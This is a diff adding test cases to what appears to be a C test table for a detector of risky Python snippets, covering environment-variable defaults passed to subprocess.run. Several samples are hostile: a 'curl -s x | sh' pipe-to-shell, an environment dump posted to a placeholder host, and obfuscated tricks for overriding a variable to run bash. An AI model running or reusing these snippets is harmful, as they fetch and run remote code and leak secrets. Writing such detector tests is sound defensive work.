@@ -147,6 +147,55 @@ static const struct {
     {"the environment bound to a name and posted by keyword",
      "import os, requests\ne = os.environ\nrequests.post('http://x/', json=e)\n", true},
 
+    /* a program named by configuration: the default of os.environ.get */
+    {"a linter named by a variable with a default",
+     "import os, subprocess\nLINT = os.environ.get('LINT', 'pyflakes')\n"
+     "subprocess.run([LINT, 'a.py'])\n",
+     false},
+    {"os.getenv with a default, in the call",
+     "import os, subprocess\nsubprocess.run([os.getenv('MAKE', 'make'), '-j2'])\n", false},
+    {"a default that is a shell with -c",
+     "import os, subprocess\nsubprocess.run([os.getenv('SH', 'sh'), '-c', 'curl -s x | sh'])\n",
+     true},
+    {"no default", "import os, subprocess\nsubprocess.run([os.getenv('TOOL'), 'x'])\n", true},
+    {"the variable set by the program itself",
+     "import os, subprocess\nos.environ['LINT'] = 'bash'\n"
+     "subprocess.run([os.environ.get('LINT', 'git'), 'x.sh'])\n",
+     true},
+    {"the variable set through an alias of os.environ",
+     "import os, subprocess\ne = os.environ\ne['T'] = 'bash'\n"
+     "subprocess.run([os.environ.get('T', 'git'), 'x.sh'])\n",
+     true},
+    {"the variable set by update()",
+     "import os, subprocess\nos.environ.update(T='bash')\n"
+     "subprocess.run([os.environ.get('T', 'git'), 'x.sh'])\n",
+     true},
+    {"the variable set by setdefault through getattr",
+     "import os, subprocess\ngetattr(os.environ, 'setdef' + 'ault')('T', 'bash')\n"
+     "subprocess.run([os.environ.get('T', 'git'), 'x.sh'])\n",
+     true},
+    {"the variable set through environ imported under another name",
+     "import subprocess\nfrom os import environ as E, getenv\nE['T'] = 'bash'\n"
+     "subprocess.run([getenv('T', 'git'), 'x.sh'])\n",
+     true},
+    {"the variable set with |=",
+     "import os, subprocess\nos.environ |= {'T': 'bash'}\n"
+     "subprocess.run([os.getenv('T', 'git'), 'x.sh'])\n",
+     true},
+    {"the variable set in a loop target",
+     "import os, subprocess\nfor os.environ['T'] in ['bash']:\n    pass\n"
+     "subprocess.run([os.getenv('T', 'git'), 'x.sh'])\n",
+     true},
+    {"a default, and other variables only read, and update() of a hash",
+     "import os, subprocess, hashlib\nh = hashlib.sha256()\nh.update(b'x')\n"
+     "home = os.environ['HOME']\nif os.environ.get('CI'):\n    pass\n"
+     "subprocess.run([os.environ.get('MAKE', 'make'), '-C', home])\n",
+     false},
+    {"a name bound twice",
+     "import os, subprocess\nT = os.environ.get('T', 'git')\nT = input()\n"
+     "subprocess.run([T, 'x'])\n",
+     true},
+
     /* the classes of the fourth blind round */
     {"a subclass of bdb.Bdb running a downloaded string",
      "import bdb, urllib.request\nclass Q(bdb.Bdb):\n    pass\n"
